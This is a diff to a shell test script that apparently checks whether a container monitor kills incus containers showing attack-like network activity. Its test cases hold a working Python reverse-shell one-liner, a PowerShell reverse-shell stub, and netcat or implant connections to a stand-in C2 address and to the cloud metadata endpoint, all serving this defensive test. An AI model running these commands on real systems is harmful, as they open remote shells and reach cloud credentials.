@@ -21,8 +21,8 @@ cases=(
     "python^python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"$GW\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'^revshell-oneliner"
     "pwsh^pwsh -c \"\$c=New-Object System.Net.Sockets.TCPClient('$GW',4444)\"^revshell-powershell"
     "implant^(sleep 5 | nc -l -p 9000 >/dev/null &); usleep 300000; /tmp/implant 9000^revshell-stdio"
-    "c2port^ip addr add 198.51.100.7/32 dev lo; (sleep 5 | nc -l -p 4444 >/dev/null &); usleep 300000; sleep 4 | nc 198.51.100.7 4444^net-c2-port"
-    "metadata^ip addr add 169.254.169.254/32 dev lo; (sleep 5 | nc -l -p 80 >/dev/null &); usleep 300000; sleep 4 | nc 169.254.169.254 80^net-metadata"
+    "c2port^ip addr add 198.51.100.7/32 dev lo; (sleep 5 | nc -l -p 4444 >/dev/null &); usleep 300000; /tmp/implant 4444 198.51.100.7 hold^net-c2-port"
+    "metadata^ip addr add 169.254.169.254/32 dev lo; (sleep 5 | nc -l -p 80 >/dev/null &); usleep 300000; /tmp/implant 80 169.254.169.254 hold^net-metadata"
 )
 
 for case in "${cases[@]}"; do
@@ -31,7 +31,8 @@ for case in "${cases[@]}"; do
     t_defer "incus delete -f $c"
     m_launch "$c" || t_bail "cannot launch $c"
     opts=()
-    [ "$what" = implant ] && incus file push -q "$implant" "$c/tmp/implant" --mode 0755
+    # the connecting client of c2port and metadata too: see monitor-implant.c
+    case $what in implant | c2port | metadata) incus file push -q "$implant" "$c/tmp/implant" --mode 0755 ;; esac
     t_ok "$what: monitor starts" m_monitor "$c" "${opts[@]}"
     m_run "$c" "$script"
     t_ok "$what: the container is gone" m_wait_state "$c" ""
